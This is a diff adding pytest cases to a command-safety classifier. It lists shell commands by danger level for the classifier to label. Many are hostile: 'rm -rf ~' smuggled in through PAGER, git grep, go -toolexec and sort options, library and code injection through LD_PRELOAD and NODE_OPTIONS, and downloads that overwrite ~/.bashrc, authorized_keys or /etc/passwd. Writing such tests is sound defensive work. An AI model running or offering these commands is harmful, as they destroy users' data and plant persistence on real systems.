@@ -487,6 +487,48 @@ ssh -i key me@host sudo reboot
 find . -name '*' -exec rm -rf {} +
 """
 
+BY_OTHER_DOORS = {
+    DangerLevel.SAFE: """
+env FOO=bar ls
+env NODE_OPTIONS=--max-old-space-size=4096 true
+env GIT_CONFIG_GLOBAL=/dev/null true
+less +G x
+""",
+    DangerLevel.CAUTION: """
+curl -o page.html http://x
+git log --output=log.txt
+sort -o sorted.txt x
+""",
+    DangerLevel.DANGEROUS: """
+env LD_PRELOAD=/tmp/x.so ls
+env NODE_OPTIONS=--require=/tmp/x.js true
+env BASH_ENV=/tmp/x ls
+env GIT_CONFIG_GLOBAL=/tmp/x true
+env GIT_CONFIG_KEY_0=core.pager ls
+env 'GIT_SSH_COMMAND=sh -c "rm -rf src"' true
+curl -o ~/.bashrc http://x
+curl -o/root/.ssh/authorized_keys http://x
+curl --output=/home/me/.profile http://x
+wget -O ~/.profile http://x
+git log --output=.git/hooks/pre-commit
+git log --output=/home/me/.bashrc
+sort -o ~/.bashrc x
+go build -o ~/.bashrc ./x
+less '+!rm -rf ~' x
+""",
+    DangerLevel.DESTRUCTIVE: """
+env 'PAGER=rm -rf ~' git log
+git grep -O'rm -rf ~' x
+git grep --open-files-in-pager='rm -rf ~' x
+go test -exec 'rm -rf ~' ./...
+go build -toolexec='rm -rf ~' ./...
+sort --compress-program='rm -rf ~' x
+sh -c 'sh -c "$(echo rm -rf ~)"'
+sh -c 'bash -c "$(printf "rm -rf ~")"'
+curl -o /etc/passwd http://x
+""",
+}
+
 _SHELL_SIGNS = ("|", "`", "$(", "<(", ">", "&&")
 
 
@@ -496,6 +538,17 @@ def judged(line: str) -> DangerLevel:
     if is_line_of_shell or line.startswith("bash <"):
         return rules.judge_script(line).level
     return rules.judge(shlex.split(line)).level
+
+
+@pytest.mark.parametrize("level", list(BY_OTHER_DOORS))
+def test_what_a_variable_or_an_option_has_run_or_written_counts(level: DangerLevel) -> None:
+    lines = BY_OTHER_DOORS[level].strip().splitlines()
+
+    wrong = {
+        line: found.name for line in lines if (found := load_danger_rules().judge(shlex.split(line)).level) != level
+    }
+
+    assert wrong == {}
 
 
 @pytest.mark.parametrize(
